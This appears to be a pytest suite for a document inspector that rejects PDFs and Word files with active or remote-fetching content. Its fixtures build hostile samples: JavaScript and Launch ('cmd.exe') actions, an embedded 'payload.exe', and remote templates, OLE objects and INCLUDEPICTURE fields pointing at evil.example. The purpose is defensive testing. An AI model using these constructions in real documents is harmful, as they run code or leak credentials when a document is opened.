"""Files that do something when they are opened are refused, like macros; what offices write is taken."""

import io
from xml.sax.saxutils import escape

import pikepdf
import pytest

from portfolios.inspection import inspect
from tests.portfolios.hostile_documents import word_of
from tests.portfolios.makers import WORD_RELS, WORD_TEXT, WORD_TYPES, pdf_file, word_file


def verdict(kind, file):
    return inspect(kind, file.read())[0]["verdict"]


def action():
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def changed(change):
    """A PDF of one page after `change(document)`."""
    document = pikepdf.open(io.BytesIO(pdf_file()))
    change(document)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def _runs_on_opening(document):
    document.Root.OpenAction = action()


def _runs_on_a_page(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(O=action())


def _starts_a_program(document):
    link = pikepdf.Dictionary(
        Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    )
    document.pages[0].obj.Annots = pikepdf.Array([link])


def _hides_in_a_numbered_object(document):
    document.Root.Names = document.make_indirect(
        pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", document.make_indirect(action())]))
        )
    )


def _carries_a_file(document):
    document.attachments["payload.exe"] = b"MZ"


def _has_a_form_of_another_kind(document):
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.String("<xdp/>"))


def _goes(kind, **where):
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **where)


def _opening(kind, **where):
    def change(document):
        document.Root.OpenAction = _goes(kind, **where)

    return change


def _asks_for_a_page_when_one_is_turned(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(O=_goes("URI", URI="https://evil.example/seen"))


def _goes_on_to_ask(document):
    here = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    document.Root.OpenAction = _goes("GoTo", D=here, Next=_goes("URI", URI="https://evil.example/"))


def _link(kind, **where):
    def change(document):
        link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=_goes(kind, **where))
        document.pages[0].obj.Annots = pikepdf.Array([link])

    return change


def _drawn_from(**said):
    def change(document):
        document.Root.Drawn = document.make_stream(b"", **said)

    return change


@pytest.mark.parametrize(
    "change",
    [
        _opening("URI", URI="https://evil.example/seen"),
        _opening("GoToR", F="\\\\evil.example\\share\\x.pdf"),
        _opening("Named", N=pikepdf.Name.Print),
        _opening("Thread", F="\\\\evil.example\\x"),
        _asks_for_a_page_when_one_is_turned,
        _goes_on_to_ask,
        _link("GoToR", F=pikepdf.Dictionary(UF="//evil.example/x.pdf")),
        _link("GoToR", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://evil.example/x.pdf")),
        _link("URI", URI="file://evil.example/x.hta"),
        _link("URI", URI="JavaScript:alert(1)"),
        _drawn_from(Subtype=pikepdf.Name.Image, F="\\\\evil.example\\x.png"),
        _drawn_from(Subtype=pikepdf.Name.Form, Ref=pikepdf.Dictionary(F="//evil.example/x.pdf", Page=0)),
        _drawn_from(Subtype=pikepdf.Name.PS),
    ],
)
def test_a_pdf_that_asks_another_computer_is_refused(change):
    assert verdict("pdf", io.BytesIO(changed(change))) == "active"


@pytest.mark.parametrize(
    "change",
    [
        _opening("GoTo", D=pikepdf.Array([0, pikepdf.Name.Fit])),
        _link("URI", URI="file:///H:/Policies/visiting.docx"),
        _link("URI", URI="mailto:kim@council.example"),
        _link("GoToR", F="appendix.pdf"),
    ],
)
def test_a_pdf_that_leads_on_when_clicked_is_taken(change):
    assert verdict("pdf", io.BytesIO(changed(change))) == "ok"


@pytest.mark.parametrize(
    "change",
    [
        _runs_on_opening,
        _runs_on_a_page,
        _starts_a_program,
        _hides_in_a_numbered_object,
        _carries_a_file,
        _has_a_form_of_another_kind,
    ],
)
def test_a_pdf_that_acts_or_carries_is_refused(change):
    assert verdict("pdf", io.BytesIO(changed(change))) == "active"


def test_a_pdf_with_links_a_title_and_bookmarks_is_taken():
    def ordinary(document):
        to = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://council.example/JS"))
        document.pages[0].obj.Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=to)])
        document.docinfo["/Title"] = "About /JS and /Launch"
        with document.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("First", 0))

    assert verdict("pdf", io.BytesIO(changed(ordinary))) == "ok"


def rels(kind, target):
    return (
        "word/_rels/settings.xml.rels",
        f'<?xml version="1.0"?><Relationships xmlns="urn:r"><Relationship Id="r1" TargetMode="External" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"/></Relationships>'.encode(),
    )


@pytest.mark.parametrize(
    ("kind", "target", "found"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", "active"),
        ("oleObject", "HTTP://evil.example/x.hta", "active"),
        ("attachedTemplate", "file:///C:/Users/kim/Normal.dotm", "ok"),
        ("attachedTemplate", "C:\\Users\\kim\\Normal.dotm", "ok"),
        ("image", "cid:image001.jpg@01D9", "ok"),
        ("image", "NULL", "ok"),
        ("image", "smb://evil.example/x.png", "active"),
        ("image", "file:\\\\evil.example\\x.png", "active"),
        ("video", "https://evil.example/seen", "active"),
        ("header", "/\\evil.example\\x.xml", "active"),
        ("hyperlink", "https://council.example/", "ok"),
    ],
)
def test_a_word_document_that_fetches_when_opened_is_refused(kind, target, found):
    assert verdict("word", io.BytesIO(word_file(extra=[rels(kind, target)]))) == found


def field(code):
    """A paragraph with a field of this code, and after it a link."""
    marks = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    fields = [
        marks.format("begin") + f"<w:r><w:instrText>{escape(one)}</w:instrText></w:r>" + marks.format("end")
        for one in (code, 'HYPERLINK "https://council.example/"')
    ]
    return f"<w:p>{''.join(fields)}</w:p>"


@pytest.mark.parametrize(
    ("code", "found"),
    [
        (r'INCLUDEPICTURE "\\\\evil.example\\x.png"', "active"),
        (r'INCLUDEPICTURE \d "http://evil.example/x.png"', "active"),
        (r'IMPORT "http://evil.example/x.png"', "active"),
        (r'LINK Excel.Sheet.12 "\\\\evil.example\\x.xlsx" "A1" \a', "active"),
        (r'DATABASE \d "\\\\evil.example\\x.mdb"', "active"),
        (r'RD "//evil.example/x.docx"', "active"),
        (r'INCLUDEPICTURE "C:\\Users\\kim\\x.png" \* MERGEFORMAT', "ok"),
        (r'LINK Excel.Sheet.12 "C:\\Users\\kim\\x.xlsx" "A1"', "ok"),
        (r"PAGE \* MERGEFORMAT", "ok"),
        (r'HYPERLINK "https://council.example/link to RD http://council.example/"', "ok"),
    ],
)
def test_a_field_that_fetches_from_another_computer_is_refused(code, found):
    assert verdict("word", io.BytesIO(word_of(field(code)))) == found


UNSEEN_TEXT = WORD_TEXT.replace(b"I met the child alone.", b"She was born on 4 May 2015")


def elsewhere(name, text, *, declared=True, meant=True):
    """A Word document whose words lie in a part of this name, beside those where they are looked for."""
    types, top = WORD_TYPES, WORD_RELS
    if declared:
        types = types.replace(
            b"</Types>", types[types.index(b"<Override") :].replace(b"word/document.xml", name)
        )
    if meant:
        top = top.replace(b"word/document.xml", name)
    return word_file(types=types, rels=top, extra=[(name.decode(), text)])


@pytest.mark.parametrize("text", [UNSEEN_TEXT, UNSEEN_TEXT.decode().encode("utf-16-be")])
@pytest.mark.parametrize(("declared", "meant"), [(True, True), (True, False), (False, True)])
def test_words_kept_where_nobody_looks_are_refused(text, declared, meant):
    """Word takes a document's text from wherever its relations say: so it would get by every check of XML."""
    given = elsewhere(b"word/main.bin", text, declared=declared, meant=meant)
    assert verdict("word", io.BytesIO(given)) == "broken"


def test_words_in_a_part_that_is_called_a_picture_are_refused():
    given = elsewhere(b"word/media/image1.png", UNSEEN_TEXT, declared=False, meant=False)
    assert verdict("word", io.BytesIO(given)) == "broken"
